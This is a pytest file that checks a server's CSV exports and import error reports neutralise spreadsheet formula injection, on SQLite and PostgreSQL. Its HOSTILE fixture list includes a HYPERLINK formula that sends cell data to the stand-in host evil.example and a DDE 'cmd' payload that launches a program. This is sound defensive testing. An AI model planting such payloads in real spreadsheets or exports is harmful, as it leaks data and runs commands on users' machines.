"""Every CSV the server writes, fed formula-like cells an attacker controls, on SQLite and
PostgreSQL: `export-dnc` (file and standard output, also `--masked`), `GET
/admin/dnc/export`, and the error reports `FILE.errors.csv` of `import-customers` and
`import-dnc`. Each hostile cell must come out as text (a leading single quote), plain
numbers as they were, and nothing may start like a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from server.cli import main as server_cli
from tests.server.conftest import Api
from wire.csvsafe import FORMULA_START, is_plain_number

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0",
           "@SUM(1)", "-2+3", "\t=1", "\r=1"]
NUMBERS = ["-2.5", "+8613812345678"]  # plain numbers: unchanged
BOM = "\ufeff"


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not (value.startswith(FORMULA_START) and not is_plain_number(value)), \
                f"a cell a spreadsheet would run as a formula: {value!r}"


def _flag_hostile_reasons(api: Api) -> None:
    """An agent puts customers on do-not-call with a reason of their own choosing."""
    agent = api.account("agent")["username"]
    items = [q for q in api.pull_all(agent)["queue_items"].values() if q["status"] != "closed"]
    reasons = HOSTILE + NUMBERS
    assert len(items) >= len(reasons)
    actions = [{"kind": "dnc", "action_id": f"{n:032x}", "created_at": "2026-11-23T08:00:00Z",
                "customer_id": q["customer"]["id"], "reason": reason}
               for n, (q, reason) in enumerate(zip(items, reasons, strict=False))]
    results = api.push(agent, actions)
    assert [r["status"] for r in results] == ["accepted"] * len(actions), results


def _reasons(rows: list[list[str]]) -> set[str]:
    assert rows[0][:3] == ["phone", "source", "reason"]
    return {r[2] for r in rows[1:]}


def test_dnc_exports_neutralise_what_agents_typed(api: Api, tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    _flag_hostile_reasons(api)
    admin = api.headers(api.account("admin")["username"])
    outputs: dict[str, str] = {}
    for masked in (False, True):
        r = api.client.get("/api/v1/admin/dnc/export", params={"masked": masked},
                           headers=admin)
        assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
        assert r.content.startswith(BOM.encode()), "a download for Excel: UTF-8 with BOM"
        outputs[f"http masked={masked}"] = r.content.decode("utf-8")
        flag = ["--masked"] if masked else []
        out = tmp_path / f"dnc-{masked}.csv"
        assert server_cli(["export-dnc", "--database-url", api.db_url, "--out", str(out),
                           *flag]) == 0
        assert out.read_bytes().startswith(BOM.encode())
        outputs[f"file masked={masked}"] = out.read_bytes().decode("utf-8")
        capsys.readouterr()
        assert server_cli(["export-dnc", "--database-url", api.db_url, *flag]) == 0
        outputs[f"stdout masked={masked}"] = capsys.readouterr().out
    for where, text in outputs.items():
        rows = _rows(text)
        _assert_no_formula(rows)
        reasons = _reasons(rows)
        for bad in HOSTILE:
            assert "'" + bad in reasons, (where, bad)
            assert bad not in reasons, (where, bad)
        assert set(NUMBERS) <= reasons, f"{where}: plain numbers stay numbers"
        phones = [r[0] for r in rows[1:]]
        if "masked=False" in where:
            assert all(p.startswith("+86") for p in phones), "E.164 numbers left as they are"
        else:
            assert all(p.startswith("'+86") and "*" in p for p in phones)


def test_import_error_reports_neutralise_the_file_s_cells(api: Api, tmp_path: Path) -> None:
    header = ("external_id,name,phone,region,star_level,tenure_months,plan_name,plan_minutes,"
              "plan_data_mb,m1_data_mb,m1_minutes,m1_spend_yuan,network_gen,preferred_channel")
    lines = [header]
    for bad in HOSTILE[:4]:  # the importer trims cells, so a leading tab or CR is gone
        quoted = '"' + bad.replace('"', '""') + '"'
        lines.append(f"{quoted},,13812349999,广东省 广州市,9,x,p,100,1024,1,1,1,4G,phone")
    customers = tmp_path / "customers.csv"
    customers.write_text("\n".join(lines) + "\n", encoding="utf-8")
    report = tmp_path / "customers.errors.csv"
    assert server_cli(["import-customers", str(customers), "--database-url", api.db_url,
                       "--errors", str(report), "--today", "2026-11-23"]) == 0
    raw = report.read_bytes()
    assert raw.startswith(BOM.encode())
    rows = _rows(raw.decode("utf-8"))
    _assert_no_formula(rows)
    assert rows[0] == ["line", "external_id", "reason"]
    assert [r[0] for r in rows[1:]] == ["2", "3", "4", "5"], "line numbers stay numbers"
    assert [r[1] for r in rows[1:]] == ["'" + bad for bad in HOSTILE[:4]]

    dnc = tmp_path / "dnc.csv"
    dnc.write_text("phone,source,reason\n" + "".join(
        f'"{bad.replace(chr(34), chr(34) * 2)}",registry,x\n' for bad in HOSTILE[:4]),
        encoding="utf-8")
    dnc_report = tmp_path / "dnc.errors.csv"
    assert server_cli(["import-dnc", str(dnc), "--database-url", api.db_url,
                       "--errors", str(dnc_report)]) == 0
    rows = _rows(dnc_report.read_bytes().decode("utf-8"))
    _assert_no_formula(rows)
    assert len(rows) == 1 + 4 and all(r[2].startswith("phone:") for r in rows[1:])
